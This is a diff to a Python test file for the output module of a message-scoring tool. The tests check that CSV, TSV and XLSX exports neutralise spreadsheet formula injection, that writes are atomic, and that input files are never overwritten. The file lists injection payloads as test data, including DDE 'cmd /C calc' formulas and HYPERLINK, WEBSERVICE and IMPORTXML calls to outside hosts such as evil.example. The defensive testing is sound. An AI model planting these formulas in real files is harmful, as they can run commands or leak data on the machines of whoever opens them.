@@ -3,14 +3,18 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import stat
+import zipfile
 from pathlib import Path
 
 import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+from autodm import output
 from autodm.errors import OutputError
-from autodm.output import FORMATS, neutralise, render, write
+from autodm.output import FORMATS, atomic_path, neutralise, render, write
 
 PAYLOADS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=HYPERLINK(\"x\")",
             " =1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
@@ -83,3 +87,186 @@ def test_stream_has_no_bom_and_xlsx_needs_a_file() -> None:
     with pytest.raises(OutputError, match="xlsx is a binary format"):
         write(_df(), "xlsx", None, stream=buf)
     assert set(FORMATS) == {"table", "csv", "tsv", "json", "jsonl", "xlsx"}
+
+
+# --------------------------------------------------------------------------- spreadsheet injection
+
+#: Formula payloads a DM could carry; each must come out inert in csv, tsv and xlsx.
+CATALOGUE = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"click\")", "=WEBSERVICE(\"https://x\")",
+    "=IMPORTXML(CONCAT(\"https://x/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1", "\r=1+1", "\n=1+1", "\t", " =1+1", "   @SUM(1)", "\u3000=1", "\u00a0=1", "\u200b=1", "\ufeff+1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "-", "--1", "+44 20 7946 0958", "-5+cmd|' /C calc'!A0", "-1e5+1",
+    "=1\n2",
+]
+#: Values that must stay exactly as they are: numbers stay numbers, text stays text.
+LEGIT = ["-5", "-3.2", "+44", "-1,234.5", "1e-3", "-.5", " -5 ", "hello", "", "e-mail me", "a=b", "1+1",
+         "'=already quoted", "café 🚀", "email@example.com"]
+
+
+@pytest.mark.parametrize("payload", CATALOGUE)
+def test_every_payload_is_neutralised(payload: str) -> None:
+    assert neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("value", LEGIT)
+def test_legitimate_values_are_unchanged(value: str) -> None:
+    assert neutralise(value) == value
+
+
+def _catalogue_frame() -> pd.DataFrame:
+    values = CATALOGUE + LEGIT
+    return pd.DataFrame({"message_id": [str(i) for i in range(len(values))], "score": [0.5] * len(values),
+                         "text": values, "sender_name": values})
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_delimited_outputs_are_inert(fmt: str) -> None:
+    df = _catalogue_frame()
+    text = render(df, fmt).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"))
+    assert rows[0] == ["message_id", "score", "text", "sender_name"]
+    cells = [r[2] for r in rows[1:]]
+    assert cells == [neutralise(v) for v in df["text"]]
+    assert [r[3] for r in rows[1:]] == cells  # every text column, not just text
+    for cell in cells:
+        first = cell.lstrip()[:1]
+        assert cell == "" or (cell[0] not in "\t\r\n" and (first not in "=+-@＝＋－＠" or
+                                                       output._PLAIN_NUMBER.fullmatch(cell.strip())))
+    raw = render(df, fmt, safe=False).decode("utf-8")
+    assert "=cmd|' /C calc'!A0" in raw and "'=cmd" not in raw  # --no-sanitize writes them as they are
+
+
+def test_xlsx_output_is_inert_read_back(tmp_path: Path) -> None:
+    df = _catalogue_frame()
+    out = tmp_path / "scores.xlsx"
+    write(df, "xlsx", out)
+    ws = load_workbook(out).active
+    got = [(c.value, c.data_type) for c in ws["C"][1:]]
+    # XML reads a bare CR back as LF
+    expected = [output._ILLEGAL_XLSX.sub("", neutralise(v)).replace("\r", "\n") or None for v in df["text"]]
+    assert [v for v, _ in got] == expected
+    assert all(t == "s" for v, t in got if v is not None)  # strings, never formulas ("f")
+    assert ws["C2"].value == "'=1+1" and ws["B2"].value == 0.5 and ws["B2"].data_type == "n"
+    with zipfile.ZipFile(out) as zf:
+        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+
+
+def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
+    df = pd.DataFrame({"a": ["one\rtwo", "x"], "b": ["3\r\n4", "y"]})
+    for fmt, sep in (("csv", ","), ("tsv", "\t")):
+        text = render(df, fmt).decode()
+        assert text == f'a{sep}b\n"one\rtwo"{sep}"3\r\n4"\nx{sep}y\n'
+        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
+        assert rows[1:] == [["one\rtwo", "3\r\n4"], ["x", "y"]]
+
+
+def test_phone_numbers_and_negative_numbers_stay_readable(tmp_path: Path) -> None:
+    df = pd.DataFrame({"text": ["+44 20 7946 0958", "-5", "-3.2"]})
+    rows = list(csv.reader(io.StringIO(render(df, "csv").decode())))
+    assert [r[0] for r in rows[1:]] == ["'+44 20 7946 0958", "-5", "-3.2"]
+    out = tmp_path / "s.xlsx"
+    write(df, "xlsx", out)
+    assert [c.value for c in load_workbook(out).active["A"][1:]] == ["'+44 20 7946 0958", "-5", "-3.2"]
+
+
+# --------------------------------------------------------------------------- atomic writes
+
+
+class Boom(Exception):
+    pass
+
+
+@pytest.mark.parametrize("exc", [Boom, KeyboardInterrupt])
+def test_exception_mid_write_leaves_no_partial_and_no_temp_file(tmp_path: Path, exc: type[BaseException]) -> None:
+    out = tmp_path / "scores.csv"
+    with pytest.raises(exc), atomic_path(out) as tmp:
+        tmp.write_bytes(b"half a fi")
+        raise exc()
+    assert list(tmp_path.iterdir()) == []
+    out.write_bytes(b"the old, complete output")
+    with pytest.raises(exc), atomic_path(out) as tmp:
+        tmp.write_bytes(b"half")
+        raise exc()
+    assert list(tmp_path.iterdir()) == [out] and out.read_bytes() == b"the old, complete output"
+
+
+@pytest.mark.parametrize("exc", [Boom, KeyboardInterrupt])
+def test_write_interrupted_while_writing_bytes(tmp_path: Path, exc: type[BaseException],
+                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    out = tmp_path / "scores.csv"
+    out.write_bytes(b"old")
+
+    def fail_fsync(fd: int) -> None:
+        raise exc()
+
+    monkeypatch.setattr(output.os, "fsync", fail_fsync)  # after the bytes, before the rename
+    with pytest.raises(exc):
+        write(_df(), "csv", out)
+    assert list(tmp_path.iterdir()) == [out] and out.read_bytes() == b"old"
+
+
+def test_disk_full_is_an_output_error_and_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def full(fd: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(output.os, "fsync", full)
+    with pytest.raises(OutputError, match=r"scores\.csv: cannot write \(No space left on device\)"):
+        write(_df(), "csv", tmp_path / "scores.csv")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_output_permissions_follow_the_umask(tmp_path: Path) -> None:
+    out = tmp_path / "scores.csv"
+    old = os.umask(0o022)
+    try:
+        write(_df(), "csv", out)
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o644
+
+
+def test_never_overwrites_an_input_by_any_spelling(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    src = tmp_path / "in" / "inbox.json"
+    src.parent.mkdir()
+    src.write_text("{}", encoding="utf-8")
+    (tmp_path / "other").mkdir()
+    link = tmp_path / "link.json"
+    link.symlink_to(src)
+    hard = tmp_path / "hard.json"
+    os.link(src, hard)
+    monkeypatch.chdir(tmp_path / "other")
+    spellings = [src, Path("../in/inbox.json"), Path("../in/./inbox.json"), Path("..//in/inbox.json"),
+                 link, hard, tmp_path / "in" / ".." / "in" / "inbox.json"]
+    for out in spellings:
+        with pytest.raises(OutputError, match="refusing to overwrite an input file"):
+            write(_df(), "csv", out, forbid=(Path("../in/inbox.json"),))
+    folder = tmp_path / "export"
+    folder.mkdir()
+    (folder / "message_1.json").write_text("{}", encoding="utf-8")
+    with pytest.raises(OutputError, match="refusing to overwrite an input file"):
+        write(_df(), "csv", folder / "message_1.json", forbid=(folder,))
+    write(_df(), "csv", folder / "scores.csv", forbid=(folder,))  # a new file beside the inputs is fine
+    assert src.read_text(encoding="utf-8") == "{}" and link.is_symlink()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["export", "hard.json", "in", "link.json", "other"]
+
+
+def test_check_target_fails_fast(tmp_path: Path) -> None:
+    with pytest.raises(OutputError, match="is a folder"):
+        output.check_target(tmp_path)
+    with pytest.raises(OutputError, match="does not exist"):
+        output.check_target(tmp_path / "no" / "x.csv")
+    output.check_target(tmp_path / "x.csv")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_output_that_is_a_symlink_is_replaced_not_written_through(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere.csv"
+    elsewhere.write_text("keep", encoding="utf-8")
+    out = tmp_path / "scores.csv"
+    out.symlink_to(elsewhere)
+    write(_df(), "csv", out)
+    assert not out.is_symlink() and out.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
+    assert elsewhere.read_text(encoding="utf-8") == "keep"
